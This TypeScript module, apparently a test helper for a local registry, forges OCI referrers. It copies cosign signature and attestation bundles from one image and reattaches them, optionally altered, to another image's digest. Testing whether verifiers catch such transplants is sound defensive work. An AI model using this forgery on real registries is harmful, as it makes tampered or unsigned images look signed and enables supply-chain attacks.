import { createHash } from 'node:crypto';

/* Attempts on a release in a registry on this machine, for the trial. Source: OCI distribution specification 1.1, referrers tag schema. */

interface Descriptor {
  readonly mediaType: string;
  readonly digest: string;
  readonly size: number;
}
interface Manifest {
  readonly layers: readonly [Descriptor];
  readonly config: Descriptor;
  readonly subject: Descriptor;
}
interface Index {
  readonly mediaType: string;
  readonly manifests: readonly Descriptor[];
}
/** As cosign stores what is signed. Source: Sigstore bundle 0.3. */
export interface Bundle {
  readonly dsseEnvelope: { readonly payload: string };
}

/** `registry`: host and port. */
export const forgeryIn = (registry: string) => {
  const ask = async (path: string, init: RequestInit = {}): Promise<Response> => {
    const response = await fetch(`http://${registry}/v2/${path}`, init);
    if (!response.ok) throw new Error(`${init.method ?? 'GET'} ${path} was answered ${response.status}`);
    return response;
  };
  const accept = { accept: 'application/vnd.oci.image.manifest.v1+json, application/vnd.oci.image.index.v1+json' };
  const json = async (path: string): Promise<unknown> => (await ask(path, { headers: accept })).json();
  const put = async (repository: string, content: string, mediaType: string, at?: string): Promise<Descriptor> => {
    const digest = `sha256:${createHash('sha256').update(content).digest('hex')}`;
    const headers = { 'content-type': mediaType };
    await ask(`${repository}/manifests/${at ?? digest}`, { method: 'PUT', headers, body: content });
    return { mediaType, digest, size: Buffer.byteLength(content) };
  };
  const putBlob = async (repository: string, content: string): Promise<Descriptor> => {
    const digest = `sha256:${createHash('sha256').update(content).digest('hex')}`;
    const { headers } = await ask(`${repository}/blobs/uploads/`, { method: 'POST' });
    const to = new URL(headers.get('location') ?? '', `http://${registry}`);
    to.searchParams.set('digest', digest);
    await ask(to.pathname.slice('/v2/'.length) + to.search, { method: 'PUT', body: content });
    return { mediaType: '', digest, size: Buffer.byteLength(content) };
  };

  return {
    /**
     * Puts all that is signed and attested of `from` beside `to`, another image or another place, as if it were said of that.
     * `change`: what becomes of each bundle.
     */
    async moveSignatures(
      from: { readonly repository: string; readonly digest: string },
      to: { readonly repository: string; readonly digest: string },
      change: (bundle: Bundle) => Bundle = (bundle) => bundle,
    ): Promise<number> {
      const tag = (digest: string) => digest.replace(':', '-');
      const index = (await json(`${from.repository}/manifests/${tag(from.digest)}`)) as Index;
      const moved: Descriptor[] = [];
      for (const described of index.manifests) {
        const manifest = (await json(`${from.repository}/manifests/${described.digest}`)) as Manifest;
        const [layer] = manifest.layers;
        const bundle = (await json(`${from.repository}/blobs/${layer.digest}`)) as Bundle;
        const config = await (await ask(`${from.repository}/blobs/${manifest.config.digest}`)).text();
        await putBlob(to.repository, config);
        const blob = await putBlob(to.repository, JSON.stringify(change(bundle)));
        const forged = {
          ...manifest,
          layers: [{ ...layer, digest: blob.digest, size: blob.size }],
          subject: { ...manifest.subject, digest: to.digest },
        };
        moved.push({ ...described, ...(await put(to.repository, JSON.stringify(forged), described.mediaType)) });
      }
      await put(to.repository, JSON.stringify({ ...index, manifests: moved }), index.mediaType, tag(to.digest));
      return moved.length;
    },
  };
};
